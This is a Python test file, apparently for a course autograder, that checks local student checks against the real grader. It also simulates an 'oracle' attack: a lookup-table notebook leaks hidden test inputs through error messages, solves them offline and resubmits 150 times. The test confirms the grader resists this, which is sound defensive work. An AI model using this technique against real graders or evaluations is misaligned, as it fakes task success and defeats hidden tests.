    """Open on 34285ee: --check needed source/ (the solutions) and grading/ (the hidden tests): outside the repository
    it said "no course here". A student with only the release folder, outside the repository, now runs the visible
    checks in the same sandbox, and gets the verdicts the instructor's grader gives the same notebook."""
    folder = tmp_path / "home" / EX1
    shutil.copytree(REPO / "exercises" / "release" / EX1, folder)
    blank = "def adaptive_threshold(*args, **kwargs):\n    raise NotImplementedError()"
    for student, answers, passed in [("whole", solutions(EX1), True),
                                     ("table_and_blank", {"segment": SCALE_FREE_LOOKUP, "adaptive_threshold": blank},
                                      False)]:
        path = folder / f"{EX1}.ipynb"
        path.write_text(json.dumps(notebook_with(EX1, answers)), encoding="utf-8")
        proc = subprocess.run([sys.executable, "-m", "labkit.grading", "--check", str(path)], capture_output=True,
                              text=True, timeout=600, cwd=tmp_path / "home")
        assert proc.returncode == (0 if passed else 1), proc.stdout + proc.stderr
        assert "no course" not in proc.stderr and ("all visible tests passed" in proc.stdout) is passed, proc.stdout
        checked = {m.group(1): float(m.group(2)) for m in re.finditer(r"^    (\w+): ([\d.]+) of [\d.]+: ", proc.stdout,
                                                                      re.M)}
        course = copy_course(tmp_path / f"course-{student}")
        result = grade_submission(Job(str(course), EX1, student, str(submit(course, student, EX1, json.loads(
            path.read_text(encoding="utf-8")))), b"a course secret"))
        visible = next(cell for cell in result.cells if cell.grade_id == "test_visible")
        assert checked == {part.function: part.points for part in visible.parts}, (proc.stdout, visible.parts)


# ---------------------------------------------------------------------------- regrade as an oracle
ORACLE_ROUNDS = 150
ORACLE_TABLE = '''
_TABLE = {table!r}


def _key(lines, walls, max_dr, max_dalpha):
    return repr((np.asarray(lines, dtype=float).round(12).tolist(), np.asarray(walls, dtype=float).round(12).tolist(),
                 round(float(max_dr), 12), round(float(max_dalpha), 12)))


def match_lines(lines, walls, max_dr=0.05, max_dalpha=np.radians(3.0)):
    """No matching at all: an answer looked up, or the question sent out in the error message (the feedback)."""
    key = _key(lines, walls, max_dr, max_dalpha)
    if key in _TABLE:
        return [tuple(pair) for pair in _TABLE[key]]
    raise ValueError("LEAK" + key + "KAEL")
'''


def _answer_offline(key: str) -> list:
    """What the attacker computes at home, with labkit, for a question the feedback gave away."""
    from types import SimpleNamespace

    import numpy as np

    import labkit

    lines, walls, max_dr, max_dalpha = eval(key, {})  # noqa: S307 -- the test's own text, echoed by the grader

    def segment(r, a):
        foot, along = r * np.array([np.cos(a), np.sin(a)]), np.array([-np.sin(a), np.cos(a)])
        return SimpleNamespace(r=r, alpha=a, start=tuple(foot - 50 * along), end=tuple(foot + 50 * along),
                               n_beams=1000)

    matched = labkit.match_lines([segment(*line) for line in lines], [segment(*wall) for wall in walls],
                                 max_dr_m=max_dr, max_dalpha=max_dalpha, min_overlap=0.0, min_beams=0,
                                 min_length_m=0.0)
    return [list(pair) for pair in matched.pairs]


def _regrade(course: Path, student: str, table: dict, monkeypatch) -> tuple[float, str, str]:
    """One regrade of the table's notebook, by the real trusted side (grade_submission) with the student's code run
    in this process instead of a sandbox (it is this test's own code): its score and everything the student
    reads afterwards (the autograded notebook, which feedback is made from, and the detail of grades.csv), about
    the visible checks and about the hidden tests."""
    from labkit.grading import runner

    monkeypatch.setattr(runner, "Session", lambda sandbox, code, **limits: LocalSession(code))
    path = submit(course, student, EX10, notebook_with(EX10, {"match": ORACLE_TABLE.format(table=table)}))
    result = grade_submission(Job(str(course), EX10, student, str(path), b"the course secret"))
    said = {cell.grade_id: json.dumps(cell.outputs) + cell.verdict for cell in result.cells}
    visible = said.pop("test_visible")
    return result.score, visible, " ".join(said.values()) + json.dumps(result.notebook) + result.detail


def test_regrades_are_no_oracle(tmp_path, monkeypatch):
    """Open on 34285ee: hidden inputs were the same on every regrade, and a student's exception text reached the
    feedback at full precision: a pure lookup table filled in offline scored 2, 4, 6 and finally 10/10 on ex10
    after 151 regrades, and the same notebook under a fresh id scored 4 with no rounds of its own (the edge cases
    were constants). Here the table's function sends every question it cannot answer out in its error message,
    the attacker answers it with labkit at home, and hands in again, 150 times: hidden inputs are drawn anew for
    every change of the code, the student's messages about them come back without their numbers, and the table
    never earns a point."""
    course = copy_course(tmp_path / "course")
    table: dict[str, list] = {}
    scores, hidden_leaks = [], 0
    for _ in range(ORACLE_ROUNDS):
        score, visible, hidden = _regrade(course, "oracle", table, monkeypatch)
        scores.append(score)
        for text, is_hidden in ((visible, False), (hidden, True)):
            for key in set(re.findall(r"LEAK(.*?)KAEL", text.replace('\\"', '"'))) - set(table):
                try:
                    table[key] = _answer_offline(key)
                except Exception:  # noqa: BLE001 -- a question the feedback did not give whole
                    continue
                hidden_leaks += is_hidden
    pooled, _, _ = _regrade(course, "a_friend", table, monkeypatch)  # the grown table under another student's id
    assert max(scores) == 0.0 and pooled == 0.0, (scores[-5:], pooled, len(table))
    assert hidden_leaks == 0, f"the feedback gave {hidden_leaks} hidden questions away"
    assert len(table) >= ORACLE_ROUNDS / 2, "the visible checks' fresh questions, learnt every round, were no use"
